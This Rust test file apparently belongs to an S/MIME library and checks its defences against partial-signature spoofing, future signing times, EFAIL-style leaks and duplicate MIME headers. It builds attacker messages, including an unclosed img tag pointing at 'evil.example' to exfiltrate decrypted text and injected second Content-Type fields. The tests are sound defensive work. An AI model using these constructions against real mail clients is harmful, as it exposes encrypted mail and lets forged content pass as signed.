//! The MIME-level items of the attack bar that no older test file held whole: a signature
//! over a part of the message (item 14), a future signing time (item 15), decrypted parts kept
//! apart from unencrypted siblings (item 19), and duplicate structural header fields in the
//! streaming readers (item 22).

mod common;

use common::{Cert, LeafSpec, TestPki};
use smime::decrypt::{Layer, Opened, decrypt, open};
use smime::encrypt::{EncryptOptions, encrypt};
use smime::error::{DecryptError, ParseError, VerifyError};
use smime::keys::SoftwareKey;
use smime::policy::{Policy, ValidationTime};
use smime::sign::{SignOptions, sign};
use smime::verify::{SignedScope, Verdict, Verifier, VerifyOptions, VerifyReport, verify};
use smime::{Decryptor, Identity};
use std::io::Cursor;
use std::sync::{Arc, OnceLock};
use std::time::{Duration, SystemTime};

struct Fixture {
    pki: TestPki,
    alice: Cert,
    bob: Cert,
}

fn fixture() -> &'static Fixture {
    static F: OnceLock<Fixture> = OnceLock::new();
    F.get_or_init(|| {
        let pki = TestPki::new();
        let alice = pki.leaf(
            "alice",
            &LeafSpec {
                emails: &["alice@example.com"],
                ..LeafSpec::default()
            },
        );
        let bob = pki.leaf(
            "bob",
            &LeafSpec {
                emails: &["bob@example.com"],
                ..LeafSpec::default()
            },
        );
        Fixture { pki, alice, bob }
    })
}

fn identity(cert: &Cert) -> Identity {
    Identity::new(
        Arc::new(SoftwareKey::from_bytes(&cert.key_pem).expect("load key")),
        smime::Certificate::from_der(&cert.der.clone()).expect("certificate"),
    )
    .expect("identity")
    .with_chain(vec![fixture().pki.intermediate.certificate()])
}

fn options() -> VerifyOptions {
    VerifyOptions {
        trust_anchors: vec![fixture().pki.root.certificate()],
        ..VerifyOptions::default()
    }
}

fn check(message: &[u8]) -> VerifyReport {
    verify(message, &options()).expect("verify runs")
}

fn bob_keys() -> Vec<Identity> {
    vec![identity(&fixture().bob)]
}

const MESSAGE: &[u8] =
    b"From: alice@example.com\r\nSubject: pay\r\nContent-Type: text/plain\r\n\r\nPay Bob 100 euros.\r\n";

/// `MESSAGE` signed by alice (multipart/signed, or opaque).
fn signed(opaque: bool) -> Vec<u8> {
    sign(
        MESSAGE,
        &[identity(&fixture().alice)],
        &SignOptions {
            opaque,
            ..SignOptions::default()
        },
    )
    .expect("sign")
}

/// The MIME entity of a message: its Content-* fields and body, without From, Subject…
fn entity_of(message: &[u8]) -> Vec<u8> {
    smime::fuzzing::mime::split_entity(message)
        .expect("split")
        .entity
}

const ATTACKER_TEXT: &[u8] =
    b"Content-Type: text/plain\r\n\r\nAlso, wire 10000 euros to mallory.\r\n";

/// A multipart of `subtype` with the header `head` (each field ending in CRLF) and the
/// given parts (each a MIME entity).
fn multipart(head: &str, subtype: &str, boundary: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut m = format!(
        "{head}MIME-Version: 1.0\r\nContent-Type: multipart/{subtype}; boundary=\"{boundary}\"\r\n\r\n"
    )
    .into_bytes();
    for part in parts {
        m.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        m.extend_from_slice(part);
        m.extend_from_slice(b"\r\n");
    }
    m.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    m
}

/// A whole message as a `message/rfc822` entity.
fn rfc822(message: &[u8]) -> Vec<u8> {
    let mut e = b"Content-Type: message/rfc822\r\n\r\n".to_vec();
    e.extend_from_slice(message);
    e
}

// ---------------------------------------------------------------------------------------------
// Item 14: a signature over a part of the message
// ---------------------------------------------------------------------------------------------

/// Item 14: a good signature over one part of the message, beside attacker text (first or
/// after it, in multipart/mixed, multipart/alternative, or a nested multipart/mixed) is
/// reported with its scope as a part (`SignedScope::Part` with the path, verdict
/// `PartiallySigned`), never as trusted for the whole message, by `verify` and by `open`. The
/// signed layer itself is good: only the scope keeps it from covering the message. A signed
/// message wrapped in `message/rfc822` (beside attacker text, or as the whole body of an
/// unsigned message) is never trusted either: it is not looked into, so `NotSigned`.
#[test]
fn attack_bar_14_a_signed_part_beside_attacker_text_is_partial_never_trusted() {
    let detached = entity_of(&signed(false));
    let opaque = entity_of(&signed(true));
    let whole_signed = signed(false);
    let inner_mixed = multipart("", "mixed", "in1", &[&detached, ATTACKER_TEXT]);
    let inner_mixed_entity = entity_of(&inner_mixed);
    let from = "From: alice@example.com\r\nSubject: pay\r\n";
    let cases: Vec<(&str, Vec<u8>, Vec<usize>)> = vec![
        (
            "signed part after attacker text",
            multipart(from, "mixed", "m1", &[ATTACKER_TEXT, &detached]),
            vec![1],
        ),
        (
            "signed part before attacker text",
            multipart(from, "mixed", "m1", &[&detached, ATTACKER_TEXT]),
            vec![0],
        ),
        (
            "opaque signed part between attacker texts",
            multipart(
                from,
                "mixed",
                "m1",
                &[ATTACKER_TEXT, &opaque, ATTACKER_TEXT],
            ),
            vec![1],
        ),
        (
            "multipart/alternative",
            multipart(from, "alternative", "a1", &[ATTACKER_TEXT, &detached]),
            vec![1],
        ),
        (
            "nested multipart/mixed",
            multipart(from, "mixed", "m1", &[ATTACKER_TEXT, &inner_mixed_entity]),
            vec![1, 0],
        ),
    ];
    for (what, msg, path) in &cases {
        let r = check(msg);
        assert_eq!(
            r.verdict(),
            Verdict::PartiallySigned { path: path.clone() },
            "{what}: {:#?}",
            r.signers
        );
        assert!(!r.is_trusted(), "{what}");
        assert_eq!(r.scope, SignedScope::Part { path: path.clone() }, "{what}");
        assert!(
            r.signers.iter().all(|s| s.passed()),
            "{what}: the signature itself is good"
        );
        let o = open(msg, &bob_keys(), &options()).expect("open");
        assert_eq!(
            o.verdict(),
            Verdict::PartiallySigned { path: path.clone() },
            "{what}: open"
        );
        assert_eq!(o.partial.as_ref(), Some(path), "{what}: open");
        assert!(!o.all_signatures_trusted(), "{what}: open");
    }
    // A signed message wrapped in message/rfc822 (a forwarded message), beside attacker text or
    // as the whole body of an unsigned message whose header (Subject, To, ...) is not signed:
    // the reader does not look inside a message/rfc822 part that is not itself signed, so the
    // inner signature is not reported at all (`NotSigned`), and in no case trusted.
    let beside = multipart(
        from,
        "mixed",
        "m1",
        &[ATTACKER_TEXT, &rfc822(&whole_signed)],
    );
    let mut alone =
        b"From: alice@example.com\r\nSubject: urgent, see below\r\nMIME-Version: 1.0\r\n".to_vec();
    alone.extend_from_slice(&rfc822(&whole_signed));
    for (what, msg) in [
        ("beside attacker text", beside),
        ("as the whole body", alone),
    ] {
        let r = check(&msg);
        assert!(
            matches!(
                r.verdict(),
                Verdict::NotSigned | Verdict::PartiallySigned { .. }
            ),
            "message/rfc822 {what}: {:?}",
            r.verdict()
        );
        assert!(!r.is_trusted(), "message/rfc822 {what}");
        let o = open(&msg, &bob_keys(), &options()).expect("open");
        assert_ne!(o.verdict(), Verdict::Trusted, "message/rfc822 {what}: open");
    }
    // The control: the same signed message alone is trusted as a whole.
    let r = check(&whole_signed);
    assert_eq!(r.verdict(), Verdict::Trusted);
    assert_eq!(r.scope, SignedScope::WholeMessage);
}

// ---------------------------------------------------------------------------------------------
// Item 15: a future signing time
// ---------------------------------------------------------------------------------------------

/// Item 15, first clause: a signingTime in the future (beyond the clock tolerance) is flagged
/// on the signer's report, and is not used as the validation time even when the policy judges
/// at the signing time; a present or slightly-ahead signing time is not flagged; with a policy
/// time in the past, "future" is judged against that time.
#[test]
fn attack_bar_15_a_future_signing_time_is_flagged() {
    let f = fixture();
    let sign_at = |t: SystemTime| {
        sign(
            MESSAGE,
            &[identity(&f.alice)],
            &SignOptions {
                signing_time: Some(t),
                ..SignOptions::default()
            },
        )
        .expect("sign")
    };
    let now = SystemTime::now();
    let year = Duration::from_secs(365 * 24 * 3600);

    let r = check(&sign_at(now + year));
    let s = &r.signers[0];
    assert!(s.signing_time_in_future, "{s:#?}");
    assert!(s.signing_time.is_some());
    // Judged now: the certificate is valid now, so the signature is otherwise good.
    assert!(s.validity.passed());

    // Under ValidationTime::SigningTime the future claim is not the validation time: the
    // certificate (valid for a few years from now) would be judged at 2100 otherwise.
    let far = SystemTime::UNIX_EPOCH + Duration::from_secs(4_102_444_800); // 2100-01-01
    let mut at_signing = options();
    at_signing.policy.time = ValidationTime::SigningTime;
    let r = verify(&sign_at(far), &at_signing).expect("verify runs");
    let s = &r.signers[0];
    assert!(s.signing_time_in_future);
    assert!(s.validation_time < far, "judged at the claimed future time");
    assert!(s.validity.passed(), "{:?}", s.validity);
    assert_eq!(s.valid_at_signing_time, Some(false));

    // Now, and a little ahead (clock skew within the tolerance): not flagged.
    for t in [now, now + Duration::from_secs(60)] {
        let r = check(&sign_at(t));
        assert!(!r.signers[0].signing_time_in_future);
        assert_eq!(r.verdict(), Verdict::Trusted);
    }
    // No signing time: nothing to flag.
    let r = check(&signed(false));
    assert!(!r.signers[0].signing_time_in_future);

    // Judged at a given time: a claim after it is in the future of the verdict.
    let mut then = options();
    then.policy.time = ValidationTime::At(now);
    let r = verify(&sign_at(now + Duration::from_secs(3600)), &then).expect("verify runs");
    assert!(r.signers[0].signing_time_in_future);
}

// ---------------------------------------------------------------------------------------------
// Item 19: decrypted parts apart from unencrypted siblings
// ---------------------------------------------------------------------------------------------

/// Item 19: an encrypted part between unencrypted attacker parts (an EFAIL-style
/// `<img src="...` opened before it and closed after it) decrypts to its own content alone:
/// `decrypt` and `open` return exactly what the encrypted part holds, never joined with the
/// siblings, and `open` names the part (`Opened::partial`) so the application shows it apart.
/// The same holds deeper in the tree.
#[test]
fn attack_bar_19_decrypted_parts_are_returned_apart_from_unencrypted_siblings() {
    let f = fixture();
    let alone =
        encrypt(MESSAGE, &[f.bob.certificate()], &EncryptOptions::default()).expect("encrypt");
    let expected = decrypt(&alone, &bob_keys(), &Policy::default())
        .expect("decrypt alone")
        .content;
    assert!(expected.ends_with(b"Pay Bob 100 euros.\r\n"));
    let encrypted_entity = entity_of(&alone);
    let before: &[u8] = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n";
    let after: &[u8] = b"Content-Type: text/html\r\n\r\n\">\r\n";
    let nested = entity_of(&multipart("", "mixed", "in1", &[&encrypted_entity, after]));
    let from = "From: alice@example.com\r\n";
    let cases: Vec<(&str, Vec<u8>, Vec<usize>)> = vec![
        (
            "between two attacker parts",
            multipart(from, "mixed", "m1", &[before, &encrypted_entity, after]),
            vec![1],
        ),
        (
            "nested",
            multipart(from, "mixed", "m1", &[before, &nested]),
            vec![1, 0],
        ),
    ];
    for (what, msg, path) in &cases {
        let d = decrypt(msg, &bob_keys(), &Policy::default()).expect("decrypt");
        assert_eq!(d.content, expected, "{what}: decrypt");
        let o: Opened = open(msg, &bob_keys(), &options()).expect("open");
        assert_eq!(o.content, expected, "{what}: open");
        assert_eq!(o.partial.as_ref(), Some(path), "{what}");
        assert_eq!(o.layers.len(), 1, "{what}");
        assert!(matches!(o.layers[0], Layer::Encrypted { .. }), "{what}");
        for shown in [&d.content, &o.content] {
            assert!(
                !shown.windows(12).any(|w| w == b"evil.example"),
                "{what}: a sibling joined the decrypted content"
            );
        }
        assert_ne!(o.verdict(), Verdict::Trusted, "{what}");
    }
}

// ---------------------------------------------------------------------------------------------
// Item 22: duplicate structural fields, also in the streaming readers
// ---------------------------------------------------------------------------------------------

fn is_ambiguous_verify(r: &Result<(VerifyReport, Vec<u8>), VerifyError>) -> bool {
    matches!(r, Err(VerifyError::Parse(ParseError::AmbiguousMime { .. })))
}

/// Inserts `field` (ending in CRLF) at the start of the header block of `message`.
fn with_field(field: &str, message: &[u8]) -> Vec<u8> {
    let mut m = field.as_bytes().to_vec();
    m.extend_from_slice(message);
    m
}

/// Item 22: a second Content-Type or Content-Transfer-Encoding field is refused as ambiguous
/// (`ParseError::AmbiguousMime`) by the streaming verifier (top-level multipart/signed or
/// opaque, and the signature part) and by the streaming decryptor (which used to take the
/// first Content-Type and call a message whose second one is application/pkcs7-mime "not
/// encrypted"), as by the one-shot `verify`, `decrypt` and `open`, at the top level and
/// nested.
#[test]
fn attack_bar_22_duplicate_structural_fields_are_refused_by_every_reader() {
    let f = fixture();
    let detached = signed(false);
    let opaque = signed(true);
    let sealed =
        encrypt(MESSAGE, &[f.bob.certificate()], &EncryptOptions::default()).expect("encrypt");
    let verifier = Verifier::new(&options());
    let decryptor = Decryptor::new(&bob_keys(), &Policy::default()).expect("decryptor");

    // Controls: each reads as it is.
    assert!(verifier.verify(&detached[..], Vec::new()).is_ok());
    assert!(verifier.verify(&opaque[..], Vec::new()).is_ok());
    assert!(decryptor.decrypt(Cursor::new(&sealed), Vec::new()).is_ok());

    for (what, msg) in [
        (
            "multipart/signed with a second Content-Type",
            with_field("Content-Type: text/plain\r\n", &detached),
        ),
        (
            "opaque with a second Content-Transfer-Encoding",
            with_field("Content-Transfer-Encoding: 7bit\r\n", &opaque),
        ),
        (
            "opaque with a second Content-Type",
            with_field("Content-Type: text/plain\r\n", &opaque),
        ),
    ] {
        assert!(
            is_ambiguous_verify(&verifier.verify(&msg[..], Vec::new())),
            "{what}: streaming"
        );
        assert!(
            matches!(
                verify(&msg, &options()),
                Err(VerifyError::Parse(ParseError::AmbiguousMime { .. }))
            ),
            "{what}: one-shot"
        );
    }
    // The signature part of a multipart/signed with two Content-Type fields.
    let text = String::from_utf8_lossy(&detached).into_owned();
    let twice = text.replacen(
        "Content-Type: application/pkcs7-signature",
        "Content-Type: application/pkcs7-signature\r\nContent-Type: text/plain",
        1,
    );
    assert_ne!(twice, text);
    assert!(is_ambiguous_verify(
        &verifier.verify(twice.as_bytes(), Vec::new())
    ));
    assert!(matches!(
        verify(twice.as_bytes(), &options()),
        Err(VerifyError::Parse(ParseError::AmbiguousMime { .. }))
    ));

    // The streaming decryptor, either order of the two Content-Type fields, and two
    // Content-Transfer-Encoding fields.
    for (what, msg) in [
        (
            "text/plain first",
            with_field("Content-Type: text/plain\r\n", &sealed),
        ),
        (
            "text/plain last",
            String::from_utf8_lossy(&sealed)
                .replacen(
                    "Content-Type: application/pkcs7-mime",
                    "Content-Type: application/pkcs7-mime\r\nX-A: b\r\nContent-Type: text/plain\r\nX-C: d\r\nContent-Type: application/pkcs7-mime",
                    1,
                )
                .into_bytes(),
        ),
        (
            "two transfer encodings",
            with_field("Content-Transfer-Encoding: quoted-printable\r\n", &sealed),
        ),
    ] {
        assert!(
            matches!(
                decryptor.decrypt(Cursor::new(&msg), Vec::new()),
                Err(DecryptError::Parse(ParseError::AmbiguousMime { .. }))
            ),
            "{what}: streaming"
        );
        assert!(
            matches!(
                decrypt(&msg, &bob_keys(), &Policy::default()),
                Err(DecryptError::Parse(ParseError::AmbiguousMime { .. }))
            ),
            "{what}: one-shot decrypt"
        );
        assert!(
            matches!(
                open(&msg, &bob_keys(), &options()),
                Err(DecryptError::Parse(ParseError::AmbiguousMime { .. }))
            ),
            "{what}: open"
        );
    }

    // Nested: an encrypted part of a multipart/mixed with two transfer encodings.
    let entity = String::from_utf8_lossy(&entity_of(&sealed)).replacen(
        "Content-Transfer-Encoding: base64",
        "Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 8bit",
        1,
    );
    let msg = multipart(
        "From: alice@example.com\r\n",
        "mixed",
        "m1",
        &[ATTACKER_TEXT, entity.as_bytes()],
    );
    assert!(matches!(
        decrypt(&msg, &bob_keys(), &Policy::default()),
        Err(DecryptError::Parse(ParseError::AmbiguousMime { .. }))
    ));
    assert!(matches!(
        verify(&msg, &options()),
        Err(VerifyError::Parse(ParseError::AmbiguousMime { .. }))
    ));
}
